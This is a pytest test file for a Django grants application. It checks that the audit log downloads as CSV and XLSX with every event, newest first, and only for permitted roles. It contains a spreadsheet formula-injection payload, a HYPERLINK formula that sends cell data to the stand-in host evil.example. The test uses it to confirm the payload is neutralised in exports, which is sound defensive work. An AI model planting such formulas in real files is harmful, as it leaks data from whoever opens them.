"""The audit log downloads as CSV and XLSX: every event (not only the page of 50 shown), newest first as on the page,
for the roles that may read the log, with a summary that looks like a formula kept as text."""

from __future__ import annotations

import pytest

from tests.factories import UserFactory
from tests.list_exports import page_table, read_csv, read_xlsx
from vcsgrants.core.audit import record_event
from vcsgrants.core.models import Role

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'


def test_the_audit_log_download_holds_every_event_of_every_page(client):
    officer = UserFactory(roles=[Role.OFFICER], first_name="Olive", last_name="Officer")
    for n in range(60):
        record_event(actor=officer, verb="test", summary=f"Event {n}")
    record_event(actor=officer, verb="test", summary=f"Renamed an organisation to {EVIL}")
    record_event(actor=officer, verb="test", summary=EVIL)
    client.force_login(officer)
    first, second = client.get("/audit/"), client.get("/audit/?page=2")
    assert 'href="/audit.csv"' in second.content.decode()  # the whole log, whichever page is open
    shown = page_table(first.content) + page_table(second.content)[1:]
    csv_rows = read_csv(client.get("/audit.csv?page=2"))
    xlsx_rows = read_xlsx(client.get("/audit.xlsx"))
    assert len(csv_rows) == len(xlsx_rows) == len(shown) == 63
    assert csv_rows[0] == xlsx_rows[0] == shown[0] == ["When", "Who", "What"]
    for page_row, csv_row, xlsx_row in zip(shown[1:], csv_rows[1:], xlsx_rows[1:], strict=True):
        assert page_row[1] == csv_row[1] == xlsx_row[1] == "Olive Officer"
        assert page_row[2] == xlsx_row[2]
        assert csv_row[2] == ("'" + EVIL if page_row[2] == EVIL else page_row[2])
        assert csv_row[0] == xlsx_row[0]
    assert xlsx_rows[1][2] == EVIL and xlsx_rows[-1][2] == "Event 0"  # newest first, as on the page


@pytest.mark.parametrize(("role", "status"), [(Role.FINANCE, 200), (Role.PARTNER, 403), (Role.PROVIDER, 403)])
def test_the_audit_download_is_for_those_who_read_the_log(client, role, status):
    client.force_login(UserFactory(roles=[role]))
    assert client.get("/audit.xlsx").status_code == client.get("/audit/").status_code == status
